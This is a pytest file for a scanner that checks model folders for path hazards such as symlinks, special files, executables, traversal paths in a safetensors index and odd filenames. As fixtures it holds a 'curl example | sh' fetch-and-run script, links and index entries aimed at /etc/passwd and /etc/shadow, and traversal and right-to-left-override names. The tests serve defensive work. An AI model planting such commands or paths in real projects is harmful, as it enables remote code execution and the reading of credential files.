"""Links are flagged and never followed; special files, executables, odd names and escaping index paths."""

import json
import os
from pathlib import Path

from crowguard.report.model import Severity
from tests.scan import payloads
from tests.scan.conftest import rules


def test_symlink_to_etc_passwd_is_flagged_not_followed(tmp_path: Path, scan) -> None:
    (tmp_path / "model.safetensors").symlink_to("/etc/passwd")
    stage = scan(tmp_path)
    finding = next(f for f in stage.findings if f.rule_id == "CG-PATH-SYMLINK-ESCAPE")
    assert (finding.file, finding.severity, finding.details["target"]) == ("model.safetensors", Severity.CRITICAL,
                                                                           "/etc/passwd")
    assert "root:" not in stage.model_dump_json()  # nothing of the target was read into the report
    assert not any(f.rule_id.startswith("CG-SAFETENSORS") for f in stage.findings)


def test_links_inside_dangling_and_relative_escape(tmp_path: Path, scan) -> None:
    payloads.write(tmp_path, "model.safetensors", payloads.valid_safetensors())
    (tmp_path / "alias.safetensors").symlink_to("model.safetensors")
    (tmp_path / "gone").symlink_to("missing-file")
    (tmp_path / "up").symlink_to("../../outside")
    found = {f.file: f.rule_id for f in scan(tmp_path).findings}
    assert found == {"alias.safetensors": "CG-PATH-SYMLINK", "gone": "CG-PATH-SYMLINK-ESCAPE",
                     "up": "CG-PATH-SYMLINK-ESCAPE"}


def test_special_files_and_executables(tmp_path: Path, scan) -> None:
    os.mkfifo(tmp_path / "fifo")
    payloads.write(tmp_path, "bin/loader", b"\x7fELF\x02\x01\x01" + bytes(120))
    payloads.write(tmp_path, "setup.sh", "#!/bin/sh\ncurl example | sh\n")
    config = payloads.write(tmp_path, "config.json", "{}")
    config.chmod(0o755)
    found = {f.file: (f.rule_id, f.severity) for f in scan(tmp_path).findings}
    assert found["fifo"] == ("CG-PATH-SPECIAL-FILE", Severity.HIGH)
    assert found["bin/loader"] == ("CG-PATH-EXECUTABLE", Severity.CRITICAL)  # floor: fails every policy
    assert found["setup.sh"] == ("CG-PATH-EXECUTABLE", Severity.CRITICAL)
    assert found["config.json"] == ("CG-PATH-EXEC-BIT", Severity.LOW)


def test_index_entries_outside_or_missing(tmp_path: Path, scan) -> None:
    payloads.write(tmp_path, "model-00001-of-00002.safetensors", payloads.valid_safetensors())
    weight_map = {"a": "model-00001-of-00002.safetensors", "b": "../../etc/shadow", "c": "/abs/x.safetensors",
                  "d": "model-00002-of-00002.safetensors"}
    payloads.write(tmp_path, "model.safetensors.index.json", json.dumps({"weight_map": weight_map}))
    locations = {f.location: f.rule_id for f in scan(tmp_path).findings}
    assert locations == {"weight_map -> ../../etc/shadow": "CG-PATH-ESCAPE",
                         "weight_map -> /abs/x.safetensors": "CG-PATH-ESCAPE",
                         "weight_map -> model-00002-of-00002.safetensors": "CG-INDEX-MISSING-SHARD"}


def test_odd_file_names(tmp_path: Path, scan) -> None:
    payloads.write(tmp_path, "model\u202esafetensors.txt", "hello")
    payloads.write(tmp_path, "line\nbreak.txt", "hello")
    assert rules(scan(tmp_path)) == {"CG-PATH-ODD-NAME"}


def test_hard_links_are_critical_under_every_policy(tmp_path: Path, scan) -> None:
    outside = tmp_path / "outside.safetensors"
    outside.write_bytes(payloads.valid_safetensors())
    folder = tmp_path / "model"
    folder.mkdir()
    os.link(outside, folder / "model.safetensors")  # the same data, also reachable (and writable) outside
    payloads.write(folder, "config.json", "{}")
    found = {(f.file, f.rule_id): f for f in scan(folder).findings}
    finding = found[("model.safetensors", "CG-PATH-HARDLINK")]
    assert finding.severity == Severity.CRITICAL and finding.details == {"st_nlink": 2}
    assert not any(rule == "CG-PATH-HARDLINK" for file, rule in found if file == "config.json")


def test_names_in_another_os_path_syntax_are_critical_under_every_policy(tmp_path: Path, scan) -> None:
    names = ["..\\..\\evil.safetensors", "C:payload.bin", "sub\\dir.json", "nested/D:x.txt"]
    for name in names:
        payloads.write(tmp_path, name, "x")
    payloads.write(tmp_path, "plain:colon.txt", "x")  # a colon not after a single drive letter is fine
    found = {f.file: f.severity for f in scan(tmp_path).findings if f.rule_id == "CG-PATH-FOREIGN-SYNTAX"}
    assert found == dict.fromkeys(names, Severity.CRITICAL)


def test_undecodable_name_is_an_odd_name_shown_escaped(tmp_path: Path, scan) -> None:
    with open(os.path.join(os.fsencode(tmp_path), b"\xff\xfe.txt"), "wb") as handle:  # bytes that are not UTF-8
        handle.write(b"hello")
    stage = scan(tmp_path)
    odd = next(f for f in stage.findings if f.rule_id == "CG-PATH-ODD-NAME")
    assert odd.file == "\\xff\\xfe.txt" and odd.severity == Severity.MEDIUM
    stage.model_dump_json()  # every string of the result is valid UTF-8
